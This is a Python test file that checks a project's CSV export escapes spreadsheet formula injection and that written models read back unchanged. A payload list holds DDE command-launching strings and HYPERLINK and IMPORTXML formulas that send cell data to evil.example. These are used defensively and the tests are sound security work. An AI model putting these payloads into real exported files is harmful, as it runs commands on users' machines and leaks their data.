"""Model text in the CSV files vitaal writes is shown by a spreadsheet as written, never run as
a formula (OWASP "CSV Injection"), and a model written and read again is the same model."""

from __future__ import annotations

import csv
import dataclasses
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from vitaal.io.folder import load_model, read_model, write_model
from vitaal.io.spreadsheet import FORMULA_STARTS, read_spreadsheet_cell, spreadsheet_cell
from vitaal.model import Provenance

SRC = Path(__file__).resolve().parents[2] / "src" / "vitaal"

#: Payloads of the kinds OWASP lists: DDE, hyperlinks, functions, hidden by tab or CR.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open the map")',
    "+1+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=1+1",
    "'=1+1",  # a text that already starts with the spreadsheet's text mark
    "''-5",
    '=IMPORTXML(CONCAT("http://evil.example/?", A2), "//a")',
]
#: Cells left as they are: numbers stay numbers; a quote before a letter is part of a name.
KEPT = ["-5", "-12.5", "+3", "-1,5", "-2e-3", "'s-Gravendeel", "Grid station", "", "12"]


def is_safe(cell: str) -> bool:
    """What a spreadsheet opening the file will not run: no formula start, or a number."""
    number = re.fullmatch(r"[+-]?[\d.,]+(e[+-]?\d+)?", cell, re.IGNORECASE)
    return not cell.startswith(FORMULA_STARTS) or number is not None


@pytest.mark.parametrize("payload", [*PAYLOADS, "\t=1+1", "\r=1+1", "-", "+", "@"])
def test_a_formula_gets_the_text_mark(payload: str) -> None:
    cell = spreadsheet_cell(payload)
    assert cell == "'" + payload
    assert read_spreadsheet_cell(cell) == payload


@pytest.mark.parametrize("cell", KEPT)
def test_numbers_and_plain_text_are_kept(cell: str) -> None:
    assert spreadsheet_cell(cell) == cell
    assert read_spreadsheet_cell(cell) == cell


def test_values_that_are_not_text_are_kept() -> None:
    assert spreadsheet_cell(-3) == -3
    assert spreadsheet_cell(-2.5) == -2.5
    assert spreadsheet_cell(None) is None


@given(st.text())
def test_reading_gives_back_what_was_written(text: str) -> None:
    cell = spreadsheet_cell(text)
    assert read_spreadsheet_cell(cell) == text
    assert is_safe(cell)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_free_text_of_a_model_folder_csv_is_escaped(
    tiny: Path, tmp_path: Path, payload: str
) -> None:
    """Every free-text field of the tables written as CSV holds the payload: no cell of the
    files starts a formula, and the model reads back the same."""
    model = read_model(tiny)
    prov = Provenance(ref=payload)
    for cid, comp in model.components.items():
        model.components[cid] = dataclasses.replace(
            comp, name=payload, owner=payload, congestion_ref=payload, prov=prov
        )
    for aid, area in model.areas.items():
        model.areas[aid] = dataclasses.replace(area, name=payload, district=payload, prov=prov)
    for fid, cf in model.critical_functions.items():
        model.critical_functions[fid] = dataclasses.replace(
            cf, name=payload, owner=payload, prov=prov
        )
    for kind in ("requirements", "supply", "stores"):
        table = model.table(kind)
        for key, rec in table.items():
            table[key] = dataclasses.replace(rec, prov=prov)
    out = write_model(model, tmp_path / "out")
    files = sorted(out.rglob("*.csv"))
    assert {p.relative_to(out).as_posix() for p in files} >= {
        "areas.csv",
        "critical_functions.csv",
        "requirements.csv",
        "supply.csv",
        "stores.csv",
    }
    seen = 0
    for path in files:
        with path.open(encoding="utf-8", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    assert is_safe(cell), f"{path.name}: {cell!r}"
                    seen += cell == "'" + payload
    assert seen >= len(model.components) * 4 + len(model.areas) * 3
    again, problems = load_model(out)
    assert problems == []
    assert again == model


#: How a module of vitaal writes a CSV file. (A workbook is not one: its text cells are typed
#: as text, which a spreadsheet never runs.)
WRITERS = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\.to_csv\(")


def test_every_csv_writer_uses_the_one_escape() -> None:
    """A module that writes CSV passes its cells through ``spreadsheet_cell``: one escape, in
    ``vitaal.io.spreadsheet``."""
    writers = [p for p in SRC.rglob("*.py") if WRITERS.search(p.read_text(encoding="utf-8"))]
    assert SRC / "io" / "folder.py" in writers
    unescaped = [
        p.relative_to(SRC).as_posix()
        for p in writers
        if "spreadsheet_cell" not in p.read_text(encoding="utf-8")
    ]
    assert unescaped == [], "CSV writers that do not use vitaal.io.spreadsheet.spreadsheet_cell"
